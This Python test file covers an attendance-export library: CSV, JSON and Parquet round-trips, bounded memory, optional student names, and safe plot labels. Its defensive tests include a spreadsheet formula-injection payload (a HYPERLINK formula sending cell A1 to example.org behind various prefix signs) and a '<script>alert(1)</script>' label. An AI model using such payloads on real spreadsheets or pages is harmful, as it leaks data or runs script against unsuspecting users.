"""Tables as CSV, JSON and Parquet: what goes in comes out, nothing runs in a spreadsheet, and memory stays bounded."""

import csv
import io
import json
import tracemalloc
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from attendance.exports import RECORD_COLUMNS, Column, Format, Kind, Row, in_spreadsheet, record_columns, write
from attendance.exports.plot import MOST_LINES, Line, draw

COLUMNS = (
    Column("name"),
    Column("count", Kind.COUNT),
    Column("share", Kind.SHARE),
    Column("flag", Kind.FLAG),
    Column("moment", Kind.MOMENT),
    Column("day", Kind.DAY),
)
FORMULA_SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
FIRST = datetime(2026, 3, 2, 9, tzinfo=UTC)

rows = st.lists(
    st.fixed_dictionaries(
        {
            "name": st.none() | st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")),
            "count": st.none() | st.integers(-(2**62), 2**62),
            "share": st.none() | st.floats(allow_nan=False, allow_infinity=False),
            "flag": st.none() | st.booleans(),
            "moment": st.none() | st.integers(0, 10**12).map(lambda ms: FIRST + timedelta(milliseconds=ms)),
            "day": st.none() | st.dates(date(1900, 1, 1), date(2999, 12, 31)),
        }
    ),
    max_size=20,
)


async def batches(given_rows: Sequence[Row], size: int = 3) -> AsyncIterator[list[Row]]:
    yield []
    for begin in range(0, len(given_rows), size):
        yield list(given_rows[begin : begin + size])


async def whole(form: Format, given_rows: Sequence[Row], **options: bool) -> bytes:
    return b"".join([part async for part in write(form, COLUMNS, batches(given_rows), **options)])


@given(rows)
async def test_what_is_written_as_csv_is_read_again(given_rows: list[Row]) -> None:
    text = (await whole(Format.CSV, given_rows)).decode()
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[0] == [column.name for column in COLUMNS]
    assert read[1:] == [[in_spreadsheet(row[column.name]) for column in COLUMNS] for row in given_rows]


@given(rows)
async def test_what_is_written_as_json_is_read_again(given_rows: list[Row]) -> None:
    read = json.loads(await whole(Format.JSON, given_rows))
    assert [(each["name"], each["count"], each["share"], each["flag"]) for each in read] == [
        (row["name"], row["count"], row["share"], row["flag"]) for row in given_rows
    ]
    moments = [each["moment"] and datetime.fromisoformat(each["moment"]) for each in read]
    assert moments == [row["moment"] for row in given_rows]
    assert [each["day"] and date.fromisoformat(each["day"]) for each in read] == [row["day"] for row in given_rows]


@given(rows)
async def test_what_is_written_as_parquet_is_read_again_with_its_types(given_rows: list[Row]) -> None:
    table = pq.read_table(io.BytesIO(await whole(Format.PARQUET, given_rows)))
    assert table.to_pylist() == given_rows
    assert [str(field.type) for field in table.schema] == [
        "string",
        "int64",
        "double",
        "bool",
        "timestamp[ms, tz=UTC]",
        "date32[day]",
    ]


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
async def test_no_cell_begins_as_a_formula_and_none_loses_a_sign(sign: str) -> None:
    text = f'{sign}HYPERLINK("http://example.org/?"&A1,"x")'
    written = (await whole(Format.CSV, [dict.fromkeys(each.name for each in COLUMNS) | {"name": text}])).decode()
    (_, (cell, *_)) = csv.reader(io.StringIO(written, newline=""))
    assert cell == f"'{text}"
    (told,) = json.loads(await whole(Format.JSON, [dict.fromkeys(each.name for each in COLUMNS) | {"name": text}]))
    assert told["name"] == text


@given(st.text())
def test_whatever_a_text_is_its_cell_is_no_formula(text: str) -> None:
    assert not in_spreadsheet(text).startswith(tuple(FORMULA_SIGNS))


def test_a_number_below_nothing_stays_a_number() -> None:
    assert in_spreadsheet(-5) == "-5"


async def test_a_byte_order_mark_stands_first_and_only_where_it_is_asked_for() -> None:
    assert (await whole(Format.CSV, [], byte_order_mark=True)).startswith(b"\xef\xbb\xbfname,")
    assert (await whole(Format.CSV, [])).startswith(b"name,")


@pytest.mark.parametrize(
    ("form", "nothing"), [(Format.CSV, b"name,count,share,flag,moment,day\r\n"), (Format.JSON, b"[]\n")]
)
async def test_a_table_without_rows_is_a_table(form: Format, nothing: bytes) -> None:
    assert await whole(form, []) == nothing


@pytest.mark.parametrize("form", Format)
async def test_memory_does_not_grow_with_the_rows(form: Format) -> None:
    async def many(count: int) -> AsyncIterator[list[Row]]:
        for number in range(0, count, 500):
            yield [
                {
                    "name": f"{number}-{each}",
                    "count": each,
                    "share": 0.5,
                    "flag": True,
                    "moment": FIRST,
                    "day": FIRST.date(),
                }
                for each in range(500)
            ]

    async def peak(count: int) -> tuple[int, int]:
        tracemalloc.start()
        size = 0
        async for part in write(form, COLUMNS, many(count)):
            size += len(part)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return size, most

    await peak(500)  # what is imported by it is counted here
    (small, few), (large, many_rows) = await peak(30_000), await peak(90_000)
    assert large > 2 * small
    assert many_rows < 1.5 * few


def test_records_tell_who_a_student_is_only_where_asked() -> None:
    names = {"given_name", "family_name", "sourced_id"}
    assert not names & {column.name for column in record_columns(names=False)}
    assert {column.name for column in record_columns(names=True)} == names | {each.name for each in RECORD_COLUMNS}


WEEKS = [date(2026, 3, 2) + timedelta(weeks=number) for number in range(3)]


def plotted(form: str, *labels: str, **more: Any) -> bytes:
    lines = [
        Line(label, [(week, None if number == 1 else 0.5) for number, week in enumerate(WEEKS)]) for label in labels
    ]
    return draw(lines, form, title="Attendance", counted="present / all", **more)


def test_a_picture_is_drawn_as_svg_with_its_texts_and_as_png() -> None:
    svg = plotted("svg", "Compilers").decode()
    assert svg.startswith("<?xml")
    for text in ("Compilers", "2026-W10", "2026-W12", "rate: present / all"):
        assert text in svg
    assert plotted("png", "Compilers").startswith(b"\x89PNG\r\n\x1a\n")


def test_a_title_is_shown_as_it_is_and_is_no_markup() -> None:
    svg = plotted("svg", "<script>alert(1)</script>", "$x_2$", "_under", "代数 %s {}").decode()
    assert "<script" not in svg
    for text in ("&lt;script&gt;alert(1)", "$x_2$", "_under", "代数 %s {}"):
        assert text in svg


def test_the_same_picture_has_the_same_bytes_and_leaves_no_figure_open() -> None:
    assert plotted("svg", "Compilers") == plotted("svg", "Compilers")
    import matplotlib.pyplot as plt

    assert plt.get_fignums() == []


def test_a_picture_of_nothing_says_so_and_one_of_too_much_is_refused() -> None:
    assert "no meetings" in draw([], "svg", title="Attendance", counted="x").decode()
    with pytest.raises(ValueError, match="at most"):
        plotted("svg", *map(str, range(MOST_LINES + 1)))
